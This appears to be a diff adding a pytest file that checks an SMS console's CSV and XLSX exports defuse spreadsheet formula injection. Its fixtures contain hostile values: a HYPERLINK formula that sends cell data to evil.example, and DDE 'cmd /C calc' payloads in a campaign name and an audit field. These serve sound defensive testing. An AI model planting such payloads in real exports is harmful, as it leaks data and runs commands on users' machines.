@@ -1,0 +1,68 @@
+"""The console's own exports (Status, a campaign's messages, the Limits audit trail) go through
+``kedacore.exports``: hostile text read back from the files is inert, numbers stay numbers."""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import UTC, datetime
+from decimal import Decimal
+from pathlib import Path
+
+import pytest
+
+from console.finance.views import audit_export
+from console.views import StatusRow, status_csv
+from kedacore.analytics import to_csv, to_xlsx
+from kedacore.api.types import SendResult, SentMessage
+from kedacore.campaign import CampaignEngine
+from kedacore.ledger import CapChange, Ledger, StatusUpdate
+from tests.kedacore.test_exports import assert_inert_csv, assert_inert_xlsx
+
+NOW = datetime(2026, 1, 31, 10, tzinfo=UTC)
+SENDER = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
+RECIPIENTS = ["+12065550100", "+12065550101"]
+
+
+@pytest.fixture
+def ledger(tmp_path: Path):
+    with Ledger(data_dir=tmp_path, clock=lambda: NOW) as led:
+        cid = led.create_campaign("@SUM(1+9)*cmd|' /C calc'!A0")
+        result = SendResult(
+            task_id="20260131-0001",
+            message="ok",
+            debited_amount=Decimal("0.1"),
+            currency="USD",
+            segments=2,
+            messages=tuple(SentMessage(f"msg_{i:012x}", r) for i, r in enumerate(RECIPIENTS)),
+        )
+        led.record_send(result, country="US", sender=SENDER, content="hi", campaign_id=cid)
+        led.apply_statuses(
+            [StatusUpdate("msg_000000000000", "SENT", sent_at=NOW, cost_micros=50_000)]
+        )
+        yield led
+
+
+def test_the_status_and_campaign_message_exports_quote_text_not_numbers(ledger: Ledger) -> None:
+    campaign = ledger.campaigns()[0]
+    engine = CampaignEngine(ledger, lambda: None)  # the page's export: engine.messages
+    for messages in (engine.messages(campaign.id), ledger.task_messages("20260131-0001")):
+        data = status_csv([StatusRow.from_ledger(m) for m in messages])
+        assert_inert_csv(data, [SENDER, *RECIPIENTS])
+        rows = list(csv.DictReader(io.StringIO(data.decode())))
+        assert [r["recipient"] for r in rows] == ["'" + r for r in RECIPIENTS]
+        assert rows[0]["cost"] == "0.05" and rows[0]["latency_ms"] == ""
+        assert rows[0]["msgid"] == "msg_000000000000"
+        assert rows[0]["sent_utc"] == "2026-01-31T10:00:00Z"
+
+
+def test_the_audit_trail_exports_quote_the_name_typed_in_the_form() -> None:
+    who = "-1+cmd|' /C calc'!A0 (unverified)"
+    rows = [
+        CapChange(1, "a" * 32, NOW, who, "daily_spend_cap", Decimal("-0"), Decimal("2.5")),
+    ]
+    frame = audit_export(rows)
+    assert_inert_csv(to_csv(frame), [who])
+    assert_inert_xlsx(to_xlsx({"cap_changes": frame}), [who])
+    exported = next(csv.DictReader(io.StringIO(to_csv(frame).decode())))
+    assert exported["after"] == "2.5" and exported["before"] == "0"
